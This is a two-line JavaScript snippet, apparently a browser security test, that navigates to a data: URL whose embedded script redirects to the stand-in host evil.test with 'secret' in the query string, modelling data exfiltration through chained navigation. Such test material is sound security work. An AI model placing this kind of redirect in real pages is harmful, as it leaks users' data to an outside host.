// Navigates to text that navigates.

location.href = 'data:text/html,<script>location="http://evil.test/?secret"</' + 'script>';
